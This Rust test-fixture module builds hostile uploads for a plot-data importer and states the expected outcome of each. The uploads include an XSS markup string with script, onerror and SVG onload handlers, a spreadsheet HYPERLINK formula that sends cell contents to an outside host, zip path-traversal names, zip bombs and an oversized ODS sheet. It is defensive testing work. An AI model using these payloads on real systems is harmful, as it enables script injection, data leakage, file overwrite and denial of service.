//! Plot folders and zips that mean harm, made up on the spot: what each is, and what must become of
//! it. The command line and the page are both held to them.

mod zips;

use files::FileSet;

pub use zips::{Said, written};

/// What somebody hands in.
#[derive(Clone, Debug)]
pub enum Form {
    /// A plot folder.
    Folder(FileSet),
    /// A file called `plot.zip`.
    Zip(Vec<u8>),
    /// A file called `list.ods`, for the page alone.
    Workbook(Vec<u8>),
}

/// What must become of it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum End {
    /// It opens without a fault.
    Sound,
    /// It opens but for what is at fault, which is told in these words.
    Faulty(&'static str),
    /// It does not open, for the reason told in these words.
    Refused(&'static str),
}

/// Something that means harm.
#[derive(Clone, Debug)]
pub struct Hostile {
    /// What it is called, as a folder may be.
    pub name: &'static str,
    /// What is handed in.
    pub form: Form,
    /// What must become of it.
    pub end: End,
}

/// Markup that would run, load or be styled where words become markup, and that ends an attribute
/// or a comment it is put into.
pub const MARKUP: &str = "'\"--></title></style><script>window.harmed='words'</script><img src=x onerror=\"window.harmed='words'\"><b style='position:fixed'>";
/// Words that a spreadsheet takes for a formula.
pub const FORMULA: &str = "=HYPERLINK(\"http://elsewhere.invalid/?\"&A1)";

/// All of them. The largest unpacks to ten gigabytes, from ten megabytes.
pub fn all() -> Vec<Hostile> {
    let folder = |name, files, end| Hostile { name, form: Form::Folder(files), end };
    let zip = |name, bytes, end| Hostile { name, form: Form::Zip(bytes), end };
    let workbook = |name, bytes| Hostile {
        name,
        form: Form::Workbook(bytes),
        end: End::Refused("list.ods cannot be read"),
    };
    let many = "more than 1000 cells";
    let shares = "files that share their bytes";
    let mut all = vec![
        folder("words", words(), End::Sound),
        folder("wide-line", with("trees.csv", wide_line()), End::Faulty(many)),
        folder("wide-header", with("trees.csv", wide_header()), End::Refused(many)),
        folder(
            "long-cell",
            with("trees.csv", long_cell()),
            End::Faulty("a cell longer than 32768 bytes"),
        ),
        folder(
            "open-quote",
            with("trees.csv", open_quote()),
            End::Faulty("a cell longer than 32768 bytes"),
        ),
        folder("only-commas", with("scores.csv", vec![b','; 30 << 20]), End::Faulty(many)),
        folder(
            "only-returns",
            with("scores.csv", vec![b'\r'; 30 << 20]),
            End::Faulty("a carriage return without a line feed"),
        ),
        folder("deep", with("plot.json", deep()), End::Refused("too many at character 128")),
        folder(
            "huge-numbers",
            with("plot.json", huge_numbers()),
            End::Refused("number out of range"),
        ),
        folder("pictures", pictures(), End::Sound),
        zip(
            "out-of-the-folder",
            packed_at("../../plot.json"),
            End::Refused("the path \"../../plot.json\""),
        ),
        zip("absolute", packed_at("/tmp/plot.json"), End::Refused("the path \"/tmp/plot.json\"")),
        zip(
            "backslash",
            packed_at("a\\..\\..\\plot.json"),
            End::Refused("paths that stay within the folder"),
        ),
        zip("drive", packed_at("C:/plot.json"), End::Refused("the path \"C:/plot.json\"")),
        zip(
            "zero-in-name",
            packed_at("plot.json\0.jpg"),
            End::Refused("paths that stay within the folder"),
        ),
        zip("long-name", packed_at(LONG_NAME), End::Refused("paths of at most 1024 bytes")),
        zip("twice", written(&twice()), End::Refused("\"p/plot.json\" twice")),
        zip("crowd", written(&crowd()), End::Refused("at most 20000 files")),
        zip(
            "lying-size",
            written(&[zips::zeros("p/photos/a", 256, Some(1000))]),
            End::Refused("another size than the archive says"),
        ),
        zip("shared-bytes", written(&zips::shared(4000)), End::Refused(shares)),
        zip("bomb", written(&zips::gigabytes(10)), End::Refused("bytes when unpacked")),
        zip("bomb-in-a-zip", bomb_in_a_zip(), End::Sound),
    ];
    all.push(workbook("workbook-of-cells", many_cells()));
    all.push(workbook("workbook-of-bytes", written(&zips::gigabytes(1))));
    all.sort_by_key(|one| one.name);
    all
}

/// A name that no file system takes.
const LONG_NAME: &str = concat!(
    "photos/xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
);

/// A sound little plot; invented.
pub fn sound() -> FileSet {
    let head = r#"{"format": "leeward-plot", "version": 1, "name": "Withy Corner",
        "layout": {"row_spacing_m": 3, "place_spacing_m": 0.75},
        "traits": [{"id": "scab_leaf", "disease": "scab", "label": "Scab on leaves", "kind": "ordinal",
          "scale": [{"value": 0, "label": "none seen", "severity": 0},
                    {"value": 1, "label": "some", "severity": 0.05}]}]}"#;
    let (mut trees, mut scores) = (TREES.to_owned(), SCORES.to_owned());
    for place in 1..=8 {
        trees += &format!("T{place},1,{place},W-{place},,,\n");
        scores += &format!("s{place},T{place},scab_leaf,{},2031-06-14,\n", place % 2);
    }
    let files = [("plot.json", head.to_owned()), ("trees.csv", trees), ("scores.csv", scores)];
    files.map(|(name, text)| (name.to_owned(), text.into_bytes())).into()
}

const TREES: &str = "tree_id,row,place,tag,seed_parent,pollen_parent,note\n";
const SCORES: &str = "score_id,tree_id,trait,value,scored_on,note\n";

fn with(name: &str, bytes: Vec<u8>) -> FileSet {
    let mut files = sound();
    files.insert(name.to_owned(), bytes);
    files
}

/// Markup and formulas wherever a person can write words.
fn words() -> FileSet {
    let cell = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
    let json = |text: &str| text.replace('"', "\\\"");
    let (markup, formula) = (cell(MARKUP), cell(FORMULA));
    let mut files = sound();
    let head = String::from_utf8(files["plot.json"].clone()).expect("text");
    let head = ["Withy Corner", "Scab on leaves", "none seen", "some"]
        .iter()
        .fold(head, |head, words| head.replace(words, &json(&format!("{words} {MARKUP}"))));
    let mut trees = TREES.replace("note", &format!("note,{markup}"));
    for (nth, words) in
        [&markup, &formula, &cell("+1"), &cell("@SUM(A1)"), &cell("\t=1"), &cell("-2+3")]
            .into_iter()
            .enumerate()
    {
        trees += &format!("T{0},1,{0},{words},{words},{words},{words},{words}\n", nth + 1);
    }
    trees += &format!("{markup},1,9,,,,,\n");
    let scores = format!(
        "{SCORES}s1,T1,scab_leaf,1,2031-06-14,{markup}\ns2,T2,scab_leaf,0,2031-06-14,{formula}\n\
         s3,{markup},scab_leaf,0,2031-06-14,\n"
    );
    files.insert("plot.json".to_owned(), head.into_bytes());
    files.insert("trees.csv".to_owned(), trees.into_bytes());
    files.insert("scores.csv".to_owned(), scores.into_bytes());
    let decisions =
        format!("decision_id,tree_id,decision,decided_on,reason\nd1,T1,keep,2031-07-01,{markup}\n");
    files.insert("decisions.csv".to_owned(), decisions.into_bytes());
    let events = format!("date,kind,rows,note\n2031-05-01,{markup},1,{markup}\n");
    files.insert("events.csv".to_owned(), events.into_bytes());
    files
}

fn wide_line() -> Vec<u8> {
    format!("{TREES}T1,1,1,W-1,,,\n{}\nT2,1,2,W-2,,,\n", ",x".repeat(1_000_000)).into_bytes()
}

fn wide_header() -> Vec<u8> {
    format!("tree_id,row,place{}\n", ",x".repeat(1_000_000)).into_bytes()
}

fn long_cell() -> Vec<u8> {
    format!("{TREES}T1,1,1,W-1,,,\nT2,1,2,{},,,\nT3,1,3,W-3,,,\n", "x".repeat(50 << 20))
        .into_bytes()
}

/// A quote that is never closed, in front of twenty megabytes of sound lines.
fn open_quote() -> Vec<u8> {
    format!("{TREES}T0,1,1,\"W-1,,,\n{}", "T1,1,2,W-2,,,\n".repeat(100_000)).into_bytes()
}

fn deep() -> Vec<u8> {
    let depth = 100_000;
    format!("{}{}", "[".repeat(depth), "]".repeat(depth)).into_bytes()
}

fn huge_numbers() -> Vec<u8> {
    let head = String::from_utf8(sound()["plot.json"].clone()).expect("text");
    head.replace("\"row_spacing_m\": 3", &format!("\"row_spacing_m\": {}", "9".repeat(300_000)))
        .into_bytes()
}

/// A picture of 30,000 by 30,000 in its head, one that is none, one that is a page, one without end.
fn pictures() -> FileSet {
    let mut files = sound();
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR".to_vec();
    png.extend([30_000_u32.to_be_bytes(), 30_000_u32.to_be_bytes()].concat());
    png.extend(b"\x08\x06\0\0\0\0\0\0\0");
    let page =
        format!("<svg xmlns='http://www.w3.org/2000/svg' onload='window.harmed=1'>{MARKUP}</svg>");
    for (name, bytes) in [
        ("photos/s1.png", png),
        ("photos/s2.jpg", b"no picture at all".to_vec()),
        ("photos/s3.svg", page.into_bytes()),
        ("photos/s4.jpg", Vec::new()),
    ] {
        files.insert(name.to_owned(), bytes);
    }
    files
}

fn packed_at(path: &str) -> Vec<u8> {
    let mut said: Vec<Said> =
        sound().iter().map(|(name, bytes)| Said::deflated(name, bytes)).collect();
    said.push(Said::deflated(path, b"{}"));
    written(&said)
}

fn twice() -> Vec<Said> {
    let files = sound();
    let mut said: Vec<Said> =
        files.iter().map(|(name, bytes)| Said::stored(&format!("p/{name}"), bytes)).collect();
    said.push(Said::stored("p/plot.json", b"{}"));
    said
}

fn crowd() -> Vec<Said> {
    (0..20_001).map(|nth| Said::stored(&format!("p/photos/{nth}"), b"")).collect()
}

/// Ten gigabytes in a zip among the pictures: a file like any other.
fn bomb_in_a_zip() -> Vec<u8> {
    let bomb = written(&zips::gigabytes(10));
    files::pack(&with("photos/inner.zip", bomb), "withy-corner")
}

/// A sheet that says of one cell that it stands a billion times.
fn many_cells() -> Vec<u8> {
    let cell = "<table:table-cell table:number-columns-repeated=\"1000000\" \
                office:value-type=\"string\"><text:p>x</text:p></table:table-cell>";
    let content = format!(
        "<office:document-content><office:body><office:spreadsheet><table:table table:name=\"S\">\
         <table:table-row table:number-rows-repeated=\"1000\">{cell}</table:table-row>\
         </table:table></office:spreadsheet></office:body></office:document-content>"
    );
    let mimetype = b"application/vnd.oasis.opendocument.spreadsheet";
    let files = [
        ("mimetype".to_owned(), mimetype.to_vec()),
        ("content.xml".to_owned(), content.into_bytes()),
    ];
    files::pack(&files.into(), "")
}
